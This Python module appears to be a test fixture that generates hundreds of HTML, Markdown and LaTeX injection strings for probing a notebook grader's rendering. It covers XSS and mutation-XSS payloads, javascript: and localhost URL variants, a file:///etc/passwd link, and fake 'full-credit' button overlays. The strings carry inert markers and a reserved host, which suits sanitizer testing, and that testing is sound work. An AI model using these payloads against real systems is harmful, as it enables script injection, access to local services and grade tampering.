"""Hundreds of texts that would run, fetch, lead into the reader's server or press a button, were they taken for HTML.

What runs says so in ``window.ran``; what is fetched is fetched from ``FAR``.
"""

from itertools import product

FAR = "far.invalid"
"""No name of the public DNS (RFC 2606): whatever asks for it is seen, and gets nothing."""
_RUN = "window.ran=1"
_EVENTS = (
    "onload onerror onclick onmouseover onmouseenter onmousemove onpointerover onpointerdown onfocus onfocusin onblur "
    "ontoggle onanimationstart ontransitionend onwheel onscroll onkeydown oninput onchange onsubmit onbegin onend "
    "onrepeat onstart oncopy onbeforetoggle oncontentvisibilityautostatechange onloadstart oncanplay onplay "
    "onpageshow onhashchange onmessage onresize onauxclick ondblclick onscrollend onsecuritypolicyviolation"
).split()
_ELEMENTS = (
    "svg img body html head details video audio source track input select textarea button a p div span math marquee "
    "iframe frame frameset object embed form x style link meta base table td th li code pre br hr image isindex "
    "keygen menu nav dialog template noscript xmp plaintext listing title noembed canvas area map applet bgsound layer"
).split()
_LEADS = (
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1",
    "java\tscript:window.ran=1",
    "java\nscript:window.ran=1",
    "&#106;avascript:window.ran=1",
    "&#x6A;avascript&#58;window.ran=1",
    "javascript&colon;window.ran=1",
    "java&Tab;script&NewLine;:window.ran=1",
    "\x01javascript:window.ran=1",
    " javascript:window.ran=1",
    "javascript://%0awindow.ran=1",
    "vbscript:window.ran=1",
    "data:text/html,<script>opener.ran=1</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=window.ran=1>",
    "d&#97;ta:text/html,x",
    "blob:null/x",
    "file:///etc/passwd",
    "view-source:x",
    "/formgrader?path=submitted/mallory/views",
    "formgrader?path=submitted/mallory/views",
    "?path=submitted/mallory/views",
    "//localhost/formgrader?path=x",
    "/\\localhost/formgrader",
    "\\\\localhost\\formgrader",
    "http:/localhost/formgrader",
    "http:localhost/formgrader",
    "http:\\\\localhost/formgrader",
    "http://localhost:8888/formgrader?path=x",
    "http://LOCALHOST./formgrader",
    "http://me.localhost/formgrader",
    "http://hub.local/formgrader",
    "http://127.0.0.1:8888/formgrader",
    "http://127.1/formgrader",
    "http://2130706433/formgrader",
    "http://0x7f000001/formgrader",
    "http://0177.0.0.1/formgrader",
    "http://0/formgrader",
    "http://[::1]/formgrader",
    "http://[::ffff:127.0.0.1]/formgrader",
    "http://①②⑦.0.0.1/formgrader",
    "http://ｌｏｃａｌｈｏｓｔ/formgrader",
    "http://loc%61lhost/formgrader",
    "http://example.org@localhost/formgrader",
    "http://example.org\\@localhost/formgrader",
    "http://user:word@example.org/",
    "http://hub/formgrader",
    "ftp://example.org/x",
    "ws://example.org/x",
    "mailto:x@example.org",
    "tel:1",
    "#views",
    "../../lab/tree/submitted",
    "",
)
_OF_LINKS = (
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<form action="{}"><button>x</button></form>',
)
_OF_PICTURES = (
    '<img src="{}">',
    '<img srcset="{} 1x">',
    "![x]({})",
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<link rel=stylesheet href="{}">',
    '<script src="{}"></script>',
    '<p style="background:url({})">x</p>',
    "<style>@import '{}'; body {background: url({})}</style>",
    '<video poster="{}"><source src="{}"></video>',
    '<body background="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">',
    '<svg><image href="{}"/><use href="{}#x"/></svg>',
    '<input type=image src="{}">',
    '<table background="{}"><tr><td>x</table>',
    "<link rel=prefetch href='{}'><link rel=dns-prefetch href='{}'>",
)
_PICTURE = f"<img src=x onerror={_RUN}>"
_PARSED_TWICE = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script/x>{_RUN}</script/x>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script type=module>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:,{_RUN} />",
    f"<math><script>{_RUN}</script></math>",
    f"</textarea></title></style></script>{_PICTURE}",
    f"--></pre></code></div></section>{_PICTURE}",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!-- --!>{_PICTURE}-->",
    f"<![CDATA[>{_PICTURE}]]>",
    f"<?x >{_PICTURE}?>",
    f'<noscript><p title="</noscript>{_PICTURE}">',
    f'<style><p title="</style>{_PICTURE}">',
    f'<xmp><p title="</xmp>{_PICTURE}">',
    f'<noembed><p title="</noembed>{_PICTURE}">',
    f'<iframe><p title="</iframe>{_PICTURE}">',
    f'<textarea><p title="</textarea>{_PICTURE}">',
    f"<plaintext>{_PICTURE}",
    f"<template>{_PICTURE}</template>",
    f"<select><style></select>{_PICTURE}</style>",
    f'<svg></p><style><a id="</style>{_PICTURE}">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math>{_PICTURE}",
    f'<math><annotation-xml encoding="text/html"><style>{_PICTURE}</style>',
    f"<svg><foreignObject><p>{_PICTURE}",
    f"<svg><title><style>{_PICTURE}",
    f"<svg><animate attributeName=href values=javascript:{_RUN} /><a id=x><text>x",
    f"<svg><set attributeName=onmouseover to={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<details open ontoggle={_RUN}>x",
    f"<input autofocus onfocus={_RUN}>",
    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={_RUN}>x",
    f"<p/onclick={_RUN}//>x</p>",
    f'<p """><{_PICTURE}">x',
    f"<img src=`x` onerror=`{_RUN}`>",
    f"<a b='>' onclick={_RUN}>x",
    f"<p title='\"'onclick={_RUN} x='\"'>x",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\<script>{_RUN}\\</script>",
    f"<​script>{_RUN}</script>",
    f"＜script＞{_RUN}＜/script＞",
    "<portal src=x><fencedframe src=x>",
)
_IN_MARKDOWN = (
    "# {}",
    "> {}",
    "- a\n    - {}",
    "| a |\n|---|\n| {} |",
    "**{}**",
    "`{}`",
    "``` {}\nx\n```",
    "```html\n{}\n```",
    "```\n{}",
    "[{}](x)",
    "![{}](x)",
    '[x](x "{}")',
    '![x](x "{}")',
    "[x]: x '{}'\n\n[x]",
    "x[^{}]\n\n[^{}]: x",
    "${}$",
    "$$\n{}\n$$",
    "\\begin{{align}}{}\\end{{align}}",
    "<div>\n\n{}\n\n</div>",
    "<div markdown=1>{}",
    "<!-- \n{}",
    "~~{}~~",
    "{}\n===",
    "![x](attachment:{})",
    "\x1b[31m{}\x1b[0m",
    "\x1b]8;;javascript:window.ran=1\x07{}\x1b]8;;\x07",
)
_FORMULAS = (
    r"$\href{javascript:window.ran=1}{x}$",
    r"$\href{/formgrader?path=submitted/mallory/views}{x}$",
    r"$$\class{full-credit modal-backdrop}{x}$$",
    r"$\cssId{notebook}{x}$ $\style{position:fixed}{x}$",
    r"$\require{html}\unicode{x3c}\text{<script>window.ran=1</script>}$",
)
_BUTTONS = (
    "<a class='full-credit modal-backdrop fade in'>x</a>",
    "<a class='no-credit modal-backdrop'>x</a>",
    "<button class='btn full-credit'>x</button>",
    "<button class=mark-graded>x</button>",
    "<div class=nbgrader_cell><a class=full-credit>x</a></div>",
    "<span class='scoring-buttons full-credit navbar-fixed-top'>x</span>",
    "<input class='score tabbable' id=patchify value=99>",
    "<textarea class=comment id=patchify-comment>x</textarea>",
    "<a data-toggle=modal data-target=#notebook data-dismiss=modal>x</a>",
    "<span data-toggle=tooltip data-html=true title='<img src=x onerror=window.ran=1>'>x</span>",
    "<a data-link=submitted/mallory/views/views.ipynb>x</a>",
    "<div id=notebook-container></div><div id=statusmessage></div>",
    "<a id=base_url name=submission_id href=x>x</a><form id=formgrader><input name=save></form>",
    "<p style='position:fixed;inset:0;z-index:9999;opacity:0'>x</p>",
    "<a class=help style=position:fixed>x</a>",
    "<div class='modal in' style=display:block><div class=modal-backdrop></div></div>",
)


def payloads() -> list[str]:
    far = f"https://{FAR}/x"
    found = [f"<{tag} src=x href=x {event}={_RUN} autofocus>x" for tag, event in zip(_ELEMENTS * 2, _EVENTS * 4)]
    found += [f"<{tag} {event}={_RUN}>x</{tag}>" for tag, event in product(("svg", "p", "x"), _EVENTS)]
    found += [pattern.replace("{}", lead) for lead, pattern in product(_LEADS, _OF_LINKS)]
    found += [pattern.replace("{}", lead) for lead, pattern in product((far, f"//{FAR}/x"), _OF_PICTURES)]
    found += [pattern.replace("{}", lead) for lead, pattern in product(_LEADS[:17:4], _OF_PICTURES)]
    found += [pattern.format(*[text] * 2) for text, pattern in product(_PARSED_TWICE[:12:3], _IN_MARKDOWN)]
    found += [pattern.format(*[text] * 2) for text, pattern in product(_BUTTONS[:1], _IN_MARKDOWN)]
    return list(dict.fromkeys([*found, *_PARSED_TWICE, *_FORMULAS, *_BUTTONS]))
